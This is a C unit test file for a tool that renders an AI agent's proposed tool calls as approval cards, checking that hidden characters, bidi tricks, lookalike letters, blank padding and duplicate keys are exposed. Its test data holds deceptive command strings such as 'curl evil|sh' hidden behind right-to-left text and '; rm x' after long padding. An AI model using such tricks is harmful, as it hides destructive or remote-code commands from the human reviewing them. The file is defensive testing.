/*
 * Copyright (c) 2026 the telclauded authors
 * SPDX-License-Identifier: ISC
 *
 * What a person reads on a card: nothing hidden, nothing left out, and no
 * button before all of it was shown.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "telclauded/lib/util.h"
#include "engines/relay/ask/cardtext.h"
#include "engines/relay/turn/turn.h"

static char	out[65536];

static const char *
vis(const char *s, size_t n, enum visible how)
{
	struct buf	b;

	buf_init(&b);
	visible_add(&b, s, n, how);
	assert_false(b.failed);
	(void)snprintf(out, sizeof(out), "%s", b.p == NULL ? "" : b.p);
	buf_free(&b);
	return (out);
}

#define VIS(s)	vis(s, sizeof(s) - 1, VIS_TEXT)
#define LINE(s)	vis(s, sizeof(s) - 1, VIS_LINE)

static void
t_visible(void **st)
{
	(void)st;
	assert_string_equal(VIS("ls -l /tmp && echo \"ok\"\n\tdone"),
	    "ls -l /tmp && echo \"ok\"\n\tdone");
	assert_string_equal(VIS("gr\xc3\xbc\xc3\x9f dich \xe4\xb8\xad \xf0\x9f"
	    "\x98\x80"), "gr\xc3\xbc\xc3\x9f dich \xe4\xb8\xad \xf0\x9f\x98"
	    "\x80");
	/* Control characters, also those a terminal obeys. */
	assert_string_equal(VIS("a\rb\x1b[2Jc\0d\x7f"), "a⟦U+000D⟧b⟦U+001B⟧"
	    "[2Jc⟦U+0000⟧d⟦U+007F⟧");
	assert_string_equal(VIS("\xc2\x85"), "⟦U+0085⟧");
	/* Bidi, zero width, tags, fillers, variation selectors, blanks. */
	assert_string_equal(VIS("a\xe2\x80\xae" "b\xe2\x81\xa6"),
	    "a⟦U+202E⟧b⟦U+2066⟧");
	assert_string_equal(VIS("r\xe2\x80\x8bm"), "r⟦U+200B⟧m");
	assert_string_equal(VIS("\xf3\xa0\x81\xa1"), "⟦U+E0061⟧");
	assert_string_equal(VIS("\xe3\x85\xa4\xef\xb8\x8f\xc2\xad"),
	    "⟦U+3164⟧⟦U+FE0F⟧⟦U+00AD⟧");
	assert_string_equal(VIS("rm\xc2\xa0-rf\xe3\x80\x80x"),
	    "rm⟦U+00A0⟧-rf⟦U+3000⟧x");
	/* Not the mark itself either. */
	assert_string_equal(VIS("⟦U+200B⟧"), "⟦U+27E6⟧U+200B⟦U+27E7⟧");
	/* Bytes that are no character. */
	assert_string_equal(VIS("a\xff\xc3(\xe2\x80"),
	    "a⟦byte FF⟧⟦byte C3⟧(⟦byte E2⟧⟦byte 80⟧");
	/* On one line. */
	assert_string_equal(LINE("a\nb\tc"), "a⟦U+000A⟧b⟦U+0009⟧c");
}

static void
t_visible_alike(void **st)
{
	(void)st;
	/* A Cyrillic letter in a Latin word; words of their own stay. */
	assert_string_equal(VIS("\xd1\x81url x"), "⟦U+0441⟧url x");
	assert_string_equal(VIS("/usr/bin/\xd1\x95udo"),
	    "/usr/bin/⟦U+0455⟧udo");
	assert_string_equal(VIS("\xd0\xb4\xd0\xb0.txt"),
	    "\xd0\xb4\xd0\xb0.txt");
	assert_string_equal(VIS("\xef\xbd\x92m"), "⟦U+FF52⟧m");
}

/* What is written from right to left does not stand where it runs. */
static void
t_visible_turned(void **st)
{
	(void)st;
	assert_string_equal(VIS(": \xd7\x90 ; curl evil|sh #"),
	    ": ⟦U+05D0⟧ ; curl evil|sh #");
	assert_string_equal(VIS("\xd7\xa9\xd7\x9c 12\nls \xd8\xa7\n\xd8\xa7"),
	    "\xd7\xa9\xd7\x9c 12\nls ⟦U+0627⟧\n\xd8\xa7");
	/* A line that is indented is a line of its own, too. */
	assert_string_equal(VIS("ls\n\t: \xd7\x90 ; rm x\n  \xd7\x90"),
	    "ls\n\t: ⟦U+05D0⟧ ; rm x\n  \xd7\x90");
	assert_string_equal(LINE("\xd7\xa9\nls"), "⟦U+05E9⟧⟦U+000A⟧ls");
	assert_string_equal(VIS("\xf0\x9e\xa4\x80 x \xef\xad\x90 "
	    "\xf0\x90\xa4\x80 \xef\xba\x8d"),
	    "⟦U+1E900⟧ x ⟦U+FB50⟧ ⟦U+10900⟧ ⟦U+FE8D⟧");
	/* Marks that would cover the line above. */
	assert_string_equal(VIS("o\xcc\x88\xcc\x88\xcc\x88\xcc\x88\xcc\x88x"),
	    "o\xcc\x88\xcc\x88\xcc\x88⟦U+0308⟧⟦U+0308⟧x");
}

static void
t_visible_space(void **st)
{
	char	big[600];
	size_t	i;

	(void)st;
	memset(big, ' ', sizeof(big));
	memcpy(big, "true", 4);
	memcpy(big + sizeof(big) - 5, "; rm x", 5);
	assert_string_equal(vis(big, sizeof(big), VIS_TEXT),
	    "true⟦591 blanks⟧; rm ");
	for (i = 4; i < sizeof(big) - 5; i += 2)
		big[i] = '\n';
	assert_string_equal(vis(big, sizeof(big), VIS_TEXT),
	    "true\n⟦295 empty lines⟧\n; rm ");
	assert_string_equal(VIS("a\n\n\n\n    b"), "a\n\n\n\n    b");
}

/* --- input ------------------------------------------------------------- */
static const char *
action(enum tool tool, const char *args)
{
	const char	*lang;
	struct buf	 b;

	buf_init(&b);
	if (action_text(tool, args, strlen(args), &b, &lang) == -1)
		(void)str_copy(out, "-1", sizeof(out));
	else
		(void)str_copy(out, b.p == NULL ? "" : b.p, sizeof(out));
	buf_free(&b);
	return (out);
}

static void
t_action(void **st)
{
	(void)st;
	assert_string_equal(action(TOOL_BASH, "{\"command\":\"make\\ntest\"}"),
	    "make\ntest");
	/* Whatever else goes along is there too. */
	assert_string_equal(action(TOOL_BASH, "{\"x\\u202e\":{\"y\":[1]},"
	    "\"command\":\"make\",\"timeout\":5}"),
	    "make\n\nx⟦U+202E⟧: {\"y\":[1]}\ntimeout: 5");
	assert_string_equal(action(TOOL_BASH, "{\"command\":\"ls\\u0000rm\"}"),
	    "ls⟦U+0000⟧rm");
	assert_string_equal(action(TOOL_WRITE, "{\"file_path\":\"a\\nb\","
	    "\"content\":\"x\\ny\"}"), "file_path: a⟦U+000A⟧b\n\nx\ny");
	assert_string_equal(action(TOOL_WEBFETCH, "{\"url\":\"http://x/\","
	    "\"prompt\":\"sum up\"}"), "url: http://x/\nprompt: sum up");
	/* What its tool will not take is shown as it is. */
	assert_string_equal(action(TOOL_BASH, "{\"command\":7}"),
	    "command: 7");
	assert_string_equal(action(TOOL_BASH, "{}"), "");
	assert_string_equal(action(TOOL_EDIT, "{\"old_string\":\"a\"}"),
	    "old_string: a");
	/* Shown and run must be the same: a key twice is neither. */
	assert_string_equal(action(TOOL_BASH, "{\"command\":\"ls\","
	    "\"command\":\"rm\"}"), "-1");
	assert_string_equal(action(TOOL_BASH, "[1]"), "-1");
	assert_string_equal(action(TOOL_BASH, "{\"command\":\"\xff\"}"), "-1");
}

static void
t_action_diff(void **st)
{
	(void)st;
	assert_string_equal(action(TOOL_EDIT, "{\"file_path\":\"f\","
	    "\"old_string\":\"1\\n2\\n3\\n4\\nold\\n5\\n6\\n7\\n8\","
	    "\"new_string\":\"1\\n2\\n3\\n4\\nnew\\nmore\\n5\\n6\\n7\\n8\","
	    "\"replace_all\":true}"), "file_path: f\nreplace_all: true\n"
	    " … 2 lines as before\n 3\n 4\n-old\n+new\n+more\n 5\n 6\n"
	    " … 2 lines as before");
	assert_string_equal(action(TOOL_EDIT, "{\"file_path\":\"f\","
	    "\"old_string\":\"\",\"new_string\":\"a\"}"),
	    "file_path: f\n+a");
	assert_string_equal(action(TOOL_EDIT, "{\"file_path\":\"f\","
	    "\"old_string\":\"a\\n\",\"new_string\":\"a\"}"),
	    "file_path: f\n a\n-");
	assert_string_equal(action(TOOL_EDIT, "{\"file_path\":\"f\","
	    "\"old_string\":\"a\\na\\na\",\"new_string\":\"a\\na\"}"),
	    "file_path: f\n a\n a\n-a");
	assert_string_equal(action(TOOL_MULTIEDIT, "{\"file_path\":\"f\","
	    "\"edits\":[{\"old_string\":\"a\",\"new_string\":\"b\"},"
	    "{\"old_string\":\"c\",\"new_string\":\"\"}]}"),
	    "file_path: f\n@@ 1 of 2 @@\n-a\n+b\n@@ 2 of 2 @@\n-c");
}

/* --- cards ------------------------------------------------------------- */
static void
line(struct cardview *v, const char *title, const char *body)
{
	struct cardline	*l = &v->line[v->n++];

	memset(l, 0, sizeof(*l));
	l->id = 0x1000 + v->n;
	l->title = title;
	l->lang = l->how = "";
	l->body = body;
	l->len = strlen(body);
	l->open = l->hour = 1;
}

static void
t_card(void **st)
{
	struct cardview	v = { 0 };

	(void)st;
	v.id = 7;
	v.where = "in /w, full-access, nothing from outside read";
	v.left_s = 298;
	line(&v, "Bash", "make test");
	assert_int_equal(card_layout(&v), 0);
	assert_string_equal(v.text.p, "Bash, in /w, full-access, nothing from "
	    "outside read\nmake test\n4:58 left");
	assert_int_equal(v.ne, 1);
	assert_int_equal(v.e[0].len, 9);
	assert_string_equal(v.markup.p, "{\"inline_keyboard\":[["
	    "{\"text\":\"Allow once\",\"callback_data\":"
	    "\"a:o:0000000000001001\"},"
	    "{\"text\":\"Allow Bash for 1 h here\",\"callback_data\":"
	    "\"a:h:0000000000001001\"},"
	    "{\"text\":\"Deny\",\"callback_data\":"
	    "\"a:d:0000000000001001\"}]]}");
	card_layout_free(&v);
	v.line[0].code = v.line[0].prompt = 1;
	assert_int_equal(card_layout(&v), 0);
	assert_non_null(strstr(v.text.p, "send the six digits"));
	card_layout_free(&v);
	v.line[0].prompt = 0;
	assert_int_equal(card_layout(&v), 0);
	assert_null(strstr(v.text.p, "send the six digits"));
	assert_non_null(strstr(v.text.p, "Send none for it yet"));
	assert_null(strstr(v.markup.p, "Allow"));
	card_layout_free(&v);
	v.line[0].open = 0;
	v.line[0].how = "denied";
	assert_int_equal(card_layout(&v), 0);
	assert_null(strstr(v.text.p, "left"));
	assert_non_null(strstr(v.text.p, "\ndenied"));
	assert_string_equal(v.markup.p, "{\"inline_keyboard\":[]}");
	card_layout_free(&v);
}

static void
t_card_pages(void **st)
{
	static char	 big[CARD_UNITS * 3];
	struct cardview	 v = { 0 };
	unsigned	 n;

	(void)st;
	memset(big, 'x', sizeof(big) - 1);
	v.where = "in /w";
	line(&v, "Bash", "first");
	line(&v, "Write", big);
	for (v.page = n = 0; n < 4; v.page = ++n) {
		assert_int_equal(card_layout(&v), 0);
		assert_int_equal(v.pages, 4);
		assert_true(utf16_len(v.text.p, v.text.len) <= 4096);
		/* The short one can be allowed at once, the other at last. */
		assert_non_null(strstr(v.markup.p, "1: Allow once"));
		assert_int_equal(strstr(v.markup.p, "2: Allow once") != NULL,
		    n == 3);
		assert_int_equal(v.line[1].offered, n == 3);
		assert_int_equal(strstr(v.text.p, "all be looked at") != NULL,
		    n < 3);
		card_layout_free(&v);
	}
	/* The last page first is not all of it; nor is one beyond it. */
	v.seen = 0;
	v.page = 99;
	assert_int_equal(card_layout(&v), 0);
	assert_int_equal(v.page, 3);
	assert_false(v.line[1].offered);
	card_layout_free(&v);
}

static void
t_card_too_long(void **st)
{
	size_t		 n = CARD_UNITS * CARD_PAGES + 1;
	char		*big = malloc(n + 1);
	struct cardview	 v = { 0 };

	(void)st;
	memset(big, 'x', n);
	big[n] = '\0';
	v.where = "in /w";
	line(&v, "Bash", big);
	assert_int_equal(card_layout(&v), -1);
	card_layout_free(&v);
	free(big);
}

static void
t_taint(void **st)
{
	char	s[160];

	(void)st;
	card_taint(0, s, sizeof(s));
	assert_string_equal(s, "nothing from outside read");
	card_taint(TAINT_WEB | TAINT_FORWARD, s, sizeof(s));
	assert_string_equal(s, "has read: a forwarded message, a web page");
	card_taint(0x1f, s, sizeof(s));
	assert_non_null(strstr(s, "data of a provider"));
}

int
main(void)
{
	static const struct CMUnitTest	tests[] = {
		cmocka_unit_test(t_visible),
		cmocka_unit_test(t_visible_alike),
		cmocka_unit_test(t_visible_turned),
		cmocka_unit_test(t_visible_space),
		cmocka_unit_test(t_action),
		cmocka_unit_test(t_action_diff),
		cmocka_unit_test(t_card),
		cmocka_unit_test(t_card_pages),
		cmocka_unit_test(t_card_too_long),
		cmocka_unit_test(t_taint),
	};

	cmocka_set_message_output(CM_OUTPUT_TAP);
	return (cmocka_run_group_tests(tests, NULL, NULL));
}
